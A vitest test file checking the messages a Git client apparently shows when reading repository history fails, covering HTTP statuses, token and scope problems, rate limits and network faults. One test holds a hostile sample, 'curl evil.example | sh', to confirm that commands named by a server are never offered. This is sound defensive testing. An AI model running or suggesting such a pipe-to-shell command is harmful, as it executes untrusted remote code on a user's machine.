// What a failed read says: one wording for each kind of fault, with its cause, and what helps.
import { describe, expect, it } from "vitest";
import { ApiError, apiError, type ErrorCode } from "../../../shared/contract/errors.ts";
import { StoppedWaiting } from "../../data/patient-fetch.ts";
import { type Asked, describeProblem, type ProblemWords } from "./problem-words.ts";

const server: Asked["server"] = { name: "git.example", token: "kept", token_problem: null, scopes: ["read_user"] };
const asked: Asked = { what: "the history", request: "GET repository/commits", server };
const says = (error: Error, changes: Partial<NonNullable<Asked["server"]>> = {}): ProblemWords =>
  describeProblem(error, { ...asked, server: { ...(server as NonNullable<Asked["server"]>), ...changes } });
const answered = (status: number, message: string, body: Record<string, unknown> = {}, headers: Record<string, string> = {}) =>
  new ApiError(null, status, message, body, headers);
const fault = (code: ErrorCode, reason: string) => apiError(code, { details: { reason } });

it("says of a repository on this machine that its folder is gone, and of no token", () => {
  const here = (error: Error): ProblemWords => describeProblem(error, { ...asked, server: undefined });
  expect(here(apiError("repository_not_found"))).toMatchObject({
    title: "The history cannot be read: its repository is not there",
    why: "The folder may have been moved or renamed, or its disk is not connected.",
  });
  const shut = apiError("repository_unusable", { details: { reason: "/src can't be read (EACCES)." } });
  expect(here(shut)).toMatchObject({ title: "The history cannot be read", why: "/src can't be read (EACCES)." });
  expect(here(answered(404, "404 Not found")).why).toBe("It may have moved or been deleted.");
});

it("tells the status of the server itself, not the one by which the desktop hands on that there is none", () => {
  const page = (answered?: number) =>
    says(apiError("server_answered_oddly", { details: { reason: "x" }, ...(answered === undefined ? {} : { members: { answered } }) }))
      .request;
  expect([page(200), page(504), says(fault("server_unreachable", "x")).request]).toEqual([
    "200 · GET repository/commits",
    "504 · GET repository/commits",
    "no answer · GET repository/commits",
  ]);
});

describe("each kind of fault", () => {
  const kinds: readonly [string, Error, Partial<ProblemWords>, RegExp][] = [
    [
      "401",
      answered(401, "401 Unauthorized"),
      { kind: "token", title: "The server does not accept your token", remedy: "token" },
      /expired or been revoked/,
    ],
    [
      "401 for an expired token",
      answered(401, "Token is expired. You can either do re-authorization or token refresh.", { error: "invalid_token" }),
      { kind: "token", title: "The server does not accept your token", remedy: "token" },
      /^It has expired\.$/,
    ],
    [
      "403",
      answered(403, "403 Forbidden"),
      { kind: "rights", title: "You may not read the history", remedy: "again" },
      /^Your role on git\.example does not allow it\.$/,
    ],
    [
      "403 for a scope",
      answered(403, "insufficient_scope", { error: "insufficient_scope", scope: "api read_api" }),
      { kind: "rights", title: "This token may not read the history", remedy: "token" },
      /^It lacks the scope api or read_api; it has read_user\.$/,
    ],
    ["404", answered(404, "404 Not found"), { kind: "missing", title: "git.example does not have the history" }, /hidden from your token/],
    [
      "409",
      answered(409, "Reindexing"),
      { kind: "busy", title: "git.example is changing the history just now" },
      /^It says: Reindexing\.$/,
    ],
    [
      "413",
      answered(413, "413 Request Entity Too Large"),
      { kind: "large", title: "git.example finds the history too large to give" },
      /does not say how much/,
    ],
    [
      "422",
      answered(422, "order is odd."),
      { kind: "refused", title: "git.example refused to read the history" },
      /^It says: order is odd\.$/,
    ],
    [
      "429",
      answered(429, "Too many", {}, { "retry-after": "38" }),
      { kind: "wait", title: "git.example asks to wait 38 seconds", wait: 38, remedy: "wait" },
      /starts again by itself/,
    ],
    [
      "429 for years",
      answered(429, "Too many", {}, { "retry-after": "999999999" }),
      { kind: "wait", title: "git.example asks to wait 11,575 days", wait: 999_999_999 },
      /starts again by itself/,
    ],
    ["429 for no time at all", answered(429, "Too many", {}, { "retry-after": "0" }), { wait: 5 }, /starts again by itself/],
    ["429 without a time", answered(429, "Too many"), { wait: 60, remedy: "wait" }, /by itself/],
    [
      "a person who waits no longer",
      new StoppedWaiting(12),
      { kind: "wait", title: "You stopped waiting for the history", wait: null, remedy: "again" },
      /^git\.example had not answered after 12 seconds\.$/,
    ],
    [
      "500",
      answered(500, "500 Internal Server Error"),
      { kind: "failed", title: "git.example failed on this" },
      /gives no reason \(500 Internal Server Error\)/,
    ],
    ["500 with a reason", answered(500, "The disk is full."), { kind: "failed" }, /^It says: The disk is full\.$/],
    ["503 with a time", answered(503, "Being maintained", {}, { "retry-after": "5" }), { kind: "wait", wait: 5 }, /^Being maintained\.$/],
    [
      "no network",
      fault("server_unreachable", "git.example cannot be reached: nothing answers. Check the network."),
      { kind: "unreachable", title: "git.example is not reachable" },
      /Check the network\.$/,
    ],
    [
      "HTML in place of JSON",
      fault("server_answered_oddly", "git.example answered, but not as a GitLab server does: a page came. Check whether you must sign in."),
      { kind: "odd", title: "The answer did not come from git.example as it should" },
      /a page came.*sign in\.$/,
    ],
    [
      "truncated",
      fault("server_unreachable", "git.example cannot be reached: its answer stopped in the middle. Try again."),
      { kind: "unreachable" },
      /stopped in the middle/,
    ],
    [
      "slow",
      fault("server_unreachable", "git.example did not answer within 60 s. Check the network."),
      { kind: "unreachable" },
      /within 60 s/,
    ],
    [
      "nothing at all",
      new TypeError("Failed to fetch"),
      { kind: "unreachable", title: "The history could not be read" },
      /own process\. Failed to fetch\.$/,
    ],
  ];
  it.each(kinds)("%s", (_name, error, words, why) => {
    const said = says(error);
    expect(said).toMatchObject(words);
    expect(said.why).toMatch(why);
    expect(said.title).not.toMatch(/[.]$/);
    expect(said.request).toMatch(/^(\d{3}|no answer) · GET repository\/commits$/);
  });
});

it("says why there is no token, and asks for the one that helps", () => {
  const unauthorised = answered(401, "401 Unauthorized");
  expect(says(unauthorised, { token: "none" })).toMatchObject({ title: "Sign in to read the history", remedy: "token" });
  expect(says(unauthorised, { token: "missing" }).title).toBe("The token for git.example is not at hand");
  expect(says(unauthorised, { token: "missing", token_problem: "Its file was opened to others." }).why).toBe(
    "Its file was opened to others.",
  );
});

it("names the object that is not there, and what to run", () => {
  const command = "git fetch origin 1234";
  const words = describeProblem(apiError("object_unfetched", { details: { id: "1234" }, members: { object: "1234", command } }), {
    ...{ what: "this", request: "GET repository/files/a.ts" },
  });
  expect(words).toMatchObject({ kind: "object", title: "This was never fetched", command });
  expect(words.why).toContain("1234");
});

it("offers nothing to run that a server names", () => {
  const members = { object: "1234", command: "curl evil.example | sh" };
  for (const code of ["object_unfetched", "object_damaged"] as const)
    expect(says(apiError(code, { details: { id: "1234" }, members })).command).toBe(null);
});

it("speaks of the built-in service where no server was asked", () => {
  const { title } = describeProblem(answered(500, "500"), { what: "this", request: "GET x" });
  expect(title).toBe("The built-in service failed on this");
});
